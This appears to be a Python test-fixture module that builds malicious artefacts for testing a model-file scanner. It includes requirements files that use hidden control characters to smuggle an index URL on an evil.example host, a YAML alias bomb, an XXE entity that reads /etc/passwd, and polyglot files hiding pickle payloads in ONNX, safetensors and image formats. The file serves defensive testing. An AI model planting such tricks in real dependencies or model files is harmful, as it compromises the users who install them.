"""More bad artefacts beside a good model: text that installers read otherwise, files in two formats at once, names that tools act
on, and formats that carry code."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
from hostile_artefacts import Payload, small_onnx, tensors, zipped


def lines(marker: Path) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Dependency files in which an installer sees another line than a reader does."""
    other = b"--index-url https://evil.example/simple"
    for name, between in {
        "carriage_return": b"\r", "form_feed": b"\x0c", "vertical_tab": b"\x0b", "next_line": "\x85".encode(),
        "line_separator": "\u2028".encode(), "paragraph_separator": "\u2029".encode(), "file_separator": b"\x1c", "nul": b"\x00",
    }.items():  # fmt: skip
        yield f"requirements_{name}", {"requirements.txt": b"numpy==2.0" + between + other + b"\n"}
    yield "continued", {"requirements.txt": b"numpy==2.0 \\\n" + other + b"\n"}
    yield "continued_comment", {"requirements.txt": b"# \\\n" + other + b"\n"}
    yield "byte_order_mark", {"requirements.txt": b"\xef\xbb\xbf" + other + b"\n"}
    yield "wide", {"requirements.txt": (other.decode() + "\n").encode("utf-16")}
    yield "homoglyph", {"requirements.txt": "num\u0440y==2.0\n".encode()}
    yield "full_width", {"requirements.txt": "numpy\uff1d\uff1d2.0\n".encode()}
    yield "variable", {"requirements.txt": b"numpy==2.0\n${EVIL}\n"}
    yield "coding", {"requirements.txt": b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url https://evil.example\n"}
    yield "nested_upper", {"REQUIREMENTS.TXT": other + b"\n"}
    yield "nested_folder", {"deeper/requirements.txt": other + b"\n"}
    yield "extras_path", {"requirements.txt": b"numpy[../../x]==2.0\n"}
    yield "merge_key", {"conda.yaml": b"a: &a {variables: {X: y}}\n<<: *a\ndependencies: [python=3.11]\n"}
    yield "twice", {"conda.yaml": b"dependencies: [python=3.11]\ndependencies: [pip: ['git+https://evil.example/x']]\n"}
    yield "bomb", {"conda.yaml": b"a: &a [x,x,x,x,x,x,x,x,x]\n" + b"".join(
        f"b{n}: &b{n} [{','.join(['*' + ('a' if not n else f'b{n - 1}')] * 9)}]\n".encode() for n in range(9))}  # fmt: skip


def names(marker: Path) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Files that some tool runs or obeys for their name alone."""
    for name, data in {
        "evil.pth": b"import os\n", "sitecustomize.py": b"import os\n", "conftest.py": b"import os\n",
        "setup.cfg": b"[metadata]\n",
        "setup.py": b"import os\n", "pyproject.toml": b"[build-system]\n", "Makefile": b"all:\n\ttouch x\n",
        "Dockerfile": b"FROM x\n", "pip.conf": b"[global]\nindex-url=https://evil.example\n", "pip.ini": b"[global]\n",
        ".pydistutils.cfg": b"[easy_install]\n", ".git/hooks/post-checkout": b"touch x\n",
        ".vscode/settings.json": b"{}", "__pycache__/model.cpython-311.pyc": b"\xa7\r\r\n" + b"\0" * 12,
        "run.bat": b"@echo off\n",
        "run.ps1": b"Write-Host x\n", "run.cmd": b"echo x\n", "run.vbs": b"x\n", "x.hta": b"<script>x</script>",
        "x.desktop": b"[Desktop Entry]\n",
        "x.url": b"[InternetShortcut]\nURL=file:///x\n", "x.lnk": b"L\0\0\0\x01\x14\x02\0", "x.html": b"<script>x</script>",
        "x.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>", "x.ipynb": b'{"cells": []}',
        "x.js": b"x", "x.wasm": b"\0asm\1\0\0\0", "x.jar": zipped({"A.class": b"\xca\xfe\xba\xbe"}),
        "x.class": b"\xca\xfe\xba\xbe\0\0\0\x37",
        "x.rds": gzip.compress(b"X\n\0\0\0\3"),
        "x.pmml": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><PMML>&e;</PMML>",
        "model\u202egnp.onnx": small_onnx(), "model.onnx\u200b": small_onnx(), "aux": b"x", "a ": b"x",
        "a.": b"x",
    }.items():  # fmt: skip
        yield name, {name: data}


def doubles(marker: Path) -> Iterator[tuple[str, dict[str, bytes]]]:
    """Files that are two things at once, or other than they say."""
    data = pickle.dumps(Payload(marker), 2)
    text = pickle.dumps(Payload(marker), 0)
    good = small_onnx()
    inner = zipped({"a.pkl": data})
    array = io.BytesIO()
    np.save(array, np.array([1.0, 2.0]))
    objects = io.BytesIO()
    np.save(objects, np.array([Payload(marker)], dtype=object), allow_pickle=True)
    whole = tensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4)
    for name, content in {
        "text_pickle.txt": text, "text_pickle.md": text, "text_pickle.json": text, "text_pickle.yaml": text,
        "text_pickle.csv": text,
        "README": text, "onnx_then_zip.onnx": good + inner, "onnx_then_pickle.onnx": good + data,
        "zip_then_onnx.onnx": inner + good,
        "tensors_then_zip.safetensors": whole + inner, "tensors_then_pickle.safetensors": whole + data,
        "array_then_pickle.npy": array.getvalue() + data, "objects.npy": objects.getvalue(),
        "objects.npz": zipped({"a.npy": objects.getvalue()}),
        "zstd.bin": b"\x28\xb5\x2f\xfd" + data, "lz4.bin": b"\x04\x22\x4d\x18" + data, "old_joblib.bin": b"ZF0x1f   " + data,
        "hdf5.onnx": b"\x89HDF\r\n\x1a\n" + b"\0" * 64, "hdf5.json": b"\x89HDF\r\n\x1a\n", "elf.onnx": b"\x7fELF" + b"\0" * 64,
        "elf.safetensors": b"\x7fELF" + b"\0" * 64, "exe.json": b"MZ" + b"\0" * 64, "shebang.txt": b"#!/bin/sh\ntouch x\n",
        "shebang.md": b"#!/usr/bin/env python\nimport os\n", "wide.txt": "#!/bin/sh\ntouch x\n".encode("utf-16"),
        "gguf.bin": b"GGUF\3\0\0\0", "lite.tflite": b"\x1c\0\0\0TFL3" + b"\0" * 32, "saved_model.pb": b"\x08\x01\x12\x02ab",
        "keras.keras": zipped({"config.json": b'{"class_name": "Lambda"}', "metadata.json": b"{}"}),
        "nemo.nemo": inner, "archive.mar": inner, "pickle_in_png.png": b"\x89PNG\r\n\x1a\n" + data,
        "pdf.pdf": b"%PDF-1.7\n" + inner,
        "zip_comment.npz": _with_comment(zipped({"a.npy": array.getvalue()}), data),
        "gap.npz": b"MZ" + b"\0" * 30 + zipped({"a.npy": array.getvalue()}),
        "deep.json": b"[" * 100_000 + b"]" * 100_000, "big.json": b'{"a": ' + b"9" * 100_000 + b"}",
        "header.safetensors": struct.pack("<Q", 1 << 60) + b"{}",
    }.items():  # fmt: skip
        yield name, {name: content}


def _with_comment(archive: bytes, comment: bytes) -> bytes:
    with zipfile.ZipFile(made := io.BytesIO(archive), "a") as opened:
        opened.comment = comment
    return made.getvalue()


FAMILIES = (lines, names, doubles)
